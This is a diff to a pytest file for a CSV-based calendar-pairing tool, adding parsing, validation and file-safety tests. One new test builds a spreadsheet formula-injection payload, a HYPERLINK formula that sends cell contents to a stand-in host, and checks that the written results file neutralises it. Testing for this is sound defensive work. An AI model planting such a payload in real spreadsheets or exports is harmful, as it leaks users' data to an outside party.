@@ -64,8 +64,9 @@ EXCEL = f"{HEADER}\r\n{ROW}\r\n"
         EXCEL.replace("ann,", '"ann",').replace("\r\n", "\n"),
         EXCEL.replace("email", " E-Mail ".replace("-", "")).replace("ann@", " ann@"),
         "\r\n" + EXCEL + ",,,,\r\n\r\n",
+        "sep=\t\r\n" + EXCEL.replace(",", "\t"),
     ],
-    ids=["commas", "semicolons", "tabs", "bom", "utf-16", "sep", "quotes", "spaces", "blank"],
+    ids=["commas", "semicolons", "tabs", "bom", "utf-16", "sep", "quotes", "spaces", "blank", "sep-tab"],
 )
 def test_what_spreadsheets_write(file: Path, text: str | bytes) -> None:
     (person,) = read(file, text).rows
@@ -116,6 +117,10 @@ def test_defaults_stand_in_for_what_is_empty(file: Path) -> None:
         (
             f"{HEADER}\nann@example.com\n",
             ["line 2, a_provider: must be", "line 2, b_provider: must be"],
+        ),
+        (
+            "email,a_provider,b_provider\nann@example.com,sandbox,sandbox\n",
+            ["line 2, a_calendar_id: is empty, and sandbox needs it", "line 2, b_calendar_id"],
         ),
         (
             EXCEL.replace("ann,", "änn,").encode("cp1252"),
@@ -209,6 +214,24 @@ def test_results_are_read_back(people: People, path: Path) -> None:
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_result_is_no_formula(file: Path, path: Path, start: str) -> None:
+    """A spreadsheet that opens the file carries nothing out; a second run reads it all the same."""
+    cell = f'{start}HYPERLINK("http://x.example.com/?"&A1)'
+    email = (cell if start in "=+-" else "ann") + "@example.com"
+    quoted = '"{}"'.format(email.replace('"', '""'))
+    people = read(file, f"{HEADER}\n{ROW.replace('ann@example.com', quoted)}\n")
+    results = Results(path, people)
+    (person,) = people.rows
+    assert person.email == email
+    results.outcomes[person.key] = Outcome("done", "conn_1", cell, "pair_1", cell, cell)
+    results.write()
+    (_, written) = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
+    assert [each for each in written if each.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert f"'{cell}" in written
+    assert Results(path, people).of(person).pair_id == "pair_1"
+
+
 def test_a_row_is_found_wherever_it_stands(people: People, path: Path, file: Path) -> None:
     results = Results(path, people)
     results.outcomes[people.rows[1].key] = Outcome("done", "conn_1", "conn_2", "pair_1")
@@ -219,7 +242,7 @@ def test_a_row_is_found_wherever_it_stands(people: People, path: Path, file: Pat
     assert Results(path, other).of(other.rows[0]).status == "open"
 
 
-@pytest.mark.parametrize("content", [b"", b"email;a\n1;2\n", b"\xff\xfe\x00"])
+@pytest.mark.parametrize("content", [b"", b"email;a\n1;2\n", b"\xff\xfe\x00", b"x" * 200_000])
 def test_another_file_is_not_overwritten(people: People, path: Path, content: bytes) -> None:
     path.write_bytes(content)
     with pytest.raises(UnusableFile, match="no result file"):
@@ -260,8 +283,7 @@ def test_an_unusable_file_ends_with_2(file: Path) -> None:
     code, output, errors = run(file)
     assert (code, output) == (2, "")
     assert errors.splitlines() == [
-        f"Error: {file}: line 2, {end}_provider: must be one of caldav, ics, sandbox, google, microsoft"
-        for end in "ab"
+        f"Error: {file}: line 2, {end}_provider: must be one of caldav, ics, sandbox" for end in "ab"
     ]
     code, _, errors = run(file.with_name("none.csv"))
     assert code == 2
